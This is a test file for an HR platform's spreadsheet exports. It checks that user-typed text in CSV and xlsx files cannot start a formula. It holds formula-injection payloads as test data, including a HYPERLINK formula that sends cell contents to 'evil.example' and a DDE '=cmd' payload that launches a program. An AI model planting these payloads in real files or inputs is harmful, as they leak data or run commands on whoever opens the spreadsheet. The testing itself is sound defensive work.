import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORMULA_START } from '../../src/platform/export/spreadsheet-safe.js';
import { insertCycle, insertResults, nationalCompetencies } from '../needs/needs-fixture.js';
import { createTestApp, type Agent, type TestApp } from '../support/test-app.js';

/**
 * Defect 6 (issue 12): text users type reaches CSV and xlsx files other people
 * open in a spreadsheet. Every export is downloaded here with hostile text
 * created through the API, and no text cell may start a formula.
 */

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
}, 60_000);
afterAll(() => t?.close());

const HOSTILE = ['=1+2', '+SUM(1)', '-2+3', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0"];
const CSV = { 'content-type': 'text/csv' };
const octet = { 'content-type': 'application/octet-stream' };

function csvCells(body: string): string[] {
  return parse(body.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();
}

async function xlsxCells(payload: Buffer): Promise<Array<{ value: ExcelJS.CellValue; text: string }>> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  const cells: Array<{ value: ExcelJS.CellValue; text: string }> = [];
  for (const sheet of book.worksheets)
    sheet.eachRow((row) => row.eachCell((cell) => cells.push({ value: cell.value, text: typeof cell.value === 'string' ? cell.value : '' })));
  return cells;
}

const formulaCells = (texts: string[]) => texts.filter((text) => FORMULA_START.test(text));

async function importJob(hr: Agent, body: string, fileName: string) {
  const started = await hr.post(`/api/people/import?fileName=${encodeURIComponent(fileName)}`, body, CSV);
  expect(started.statusCode).toBe(202);
  for (let i = 0; i < 200; i++) {
    const job = (await hr.get(`/api/people/import/${started.json().id}`)).json();
    if (!['reading', 'validating', 'committing'].includes(job.phase)) return job;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('import job did not finish');
}

describe('exports neutralise text that would start a formula', () => {
  it('staff import report (csv and xlsx): the file name and rejected values', async () => {
    const hr = await t.signIn('hr.hanoi');
    const file = [
      'Mã cán bộ,Họ và tên,Ngày sinh,Giới tính,Mã cơ quan',
      ...HOSTILE.map((h, i) => `HN-X${i},"${h.replace(/"/g, '""')}",${h.replace(/[",]/g, '')},Nam,"${h.replace(/"/g, '""')}"`),
    ].join('\n');
    const job = await importJob(hr, file, "=cmd|' /C calc'!A0.csv");
    expect(job.errors.length).toBeGreaterThan(0);

    const csv = await hr.get(`/api/people/import/${job.id}/report?format=csv`);
    expect(csv.statusCode).toBe(200);
    const cells = csvCells(csv.body);
    expect(cells).toContain("'=cmd|' /C calc'!A0.csv");
    expect(cells.some((c) => c.startsWith("'=HYPERLINK"))).toBe(true);
    expect(formulaCells(cells)).toEqual([]);

    const xlsx = await hr.get(`/api/people/import/${job.id}/report?format=xlsx`);
    const texts = (await xlsxCells(xlsx.rawPayload)).map((c) => c.text);
    expect(texts).toContain("'=cmd|' /C calc'!A0.csv");
    expect(formulaCells(texts)).toEqual([]);
  });

  it('staff import template: agency names typed by HR', async () => {
    const hr = await t.signIn('hr.hanoi');
    const parent = (await hr.get('/api/org/agencies?q=HN-SNV')).json();
    const parentId = (parent.items ?? parent).find((a: { code: string }) => a.code === 'HN-SNV')?.id;
    expect(parentId).toBeTruthy();
    const created = await hr.post('/api/org/agencies', { code: 'HN-XSS', kind: 'department', name: '=HYPERLINK("http://evil.example","x")', parentId });
    expect(created.statusCode).toBe(201);
    const xlsx = await hr.get('/api/people/import/template?format=xlsx');
    const texts = (await xlsxCells(xlsx.rawPayload)).map((c) => c.text);
    expect(texts).toContain('\'=HYPERLINK("http://evil.example","x")');
    expect(formulaCells(texts)).toEqual([]);
  });

  it('training-needs workbook: unit names, while the figures stay numbers', async () => {
    // The consolidated results come from the needs tests' fixture; the hostile name is typed through the API.
    const competencies = await nationalCompetencies(t.db, 4);
    const cycle = { id: await insertCycle(t.db, 'Đánh giá năm 2025', '2025-10-01', competencies[0]!.versionId) };
    await insertResults(t.db, cycle.id, competencies);
    const hr = await t.signIn('hr.hanoi');
    const agencies = (await hr.get('/api/org/agencies')).json();
    const department = (agencies.items ?? agencies).find((a: { code: string }) => a.code === 'HN-SNV');
    const renamed = await hr.post(`/api/org/agencies/${department.id}/rename`, { name: '-1+1 Hà Nội', effectiveDate: '2020-01-01' });
    expect(renamed.statusCode).toBe(200);
    const xlsx = await hr.get(`/api/needs/breakdown.xlsx?cycleId=${cycle.id}`);
    expect(xlsx.statusCode).toBe(200);
    const cells = await xlsxCells(xlsx.rawPayload);
    expect(cells.map((c) => c.text)).toContain("'-1+1 Hà Nội");
    expect(formulaCells(cells.map((c) => c.text))).toEqual([]);
    expect(cells.some((c) => typeof c.value === 'number')).toBe(true);
  });

  it('framework exports (Moodle CSV and xlsx) neutralise names, codes and indicators, and re-import the original text', async () => {
    const hr = await t.signIn('hr.hanoi');
    const national = (await hr.get('/api/frameworks')).json().items.find((f: { scope: string }) => f.scope === 'national') as { id: string };
    const created = await hr.post(`/api/frameworks/${national.id}/extensions`, { code: 'HN-XSS', name: { vi: '=1+2', en: '@SUM(A1)' } });
    expect(created.statusCode, created.body).toBe(201);
    const { versionId } = created.json();
    const doc = (await hr.get(`/api/frameworks/versions/${versionId}`)).json().document;
    doc.description = { vi: '+description', en: '-description' };
    doc.groups.push({ code: 'XG', kind: 'functional', name: { vi: "=cmd|' /C calc'!A0", en: '-1' }, description: { vi: '@x', en: '=y' } });
    doc.competencies.push({
      code: 'XG.1',
      groupCode: 'XG',
      parentCode: null,
      name: { vi: '=HYPERLINK("http://evil.example","x")', en: "'=already quoted" },
      description: { vi: '\t=tab', en: '=desc' },
      indicators: [1, 2, 3, 4, 5].map((level) => ({ level, text: { vi: `=${level}+1`, en: `-${level}` } })),
    });
    const saved = await hr.put(`/api/frameworks/versions/${versionId}`, doc);
    expect(saved.statusCode, saved.body).toBe(200);
    const original = (await hr.get(`/api/frameworks/versions/${versionId}`)).json().document;

    for (const format of ['moodle-csv', 'xlsx'] as const) {
      const exported = await hr.get(`/api/frameworks/versions/${versionId}/export?format=${format}`);
      expect(exported.statusCode).toBe(200);
      const texts = format === 'xlsx' ? (await xlsxCells(exported.rawPayload)).map((c) => c.text) : csvCells(exported.body);
      expect(formulaCells(texts), format).toEqual([]);
      // The file name comes from the code: no leading formula character, no quote.
      expect(exported.headers['content-disposition']).toMatch(/^attachment; filename="HN-XSS-v1\./);
      const again = await hr.post(`/api/frameworks/import?format=${format}`, exported.rawPayload, octet);
      expect(again.statusCode, JSON.stringify(again.json())).toBeLessThan(300);
      const reread = (await hr.get(`/api/frameworks/versions/${again.json().versionId}`)).json().document;
      // (Re-importing the draft's own code replaces that draft: the next format exports it again.)
      expect(reread, format).toEqual(original);
    }
  });
});
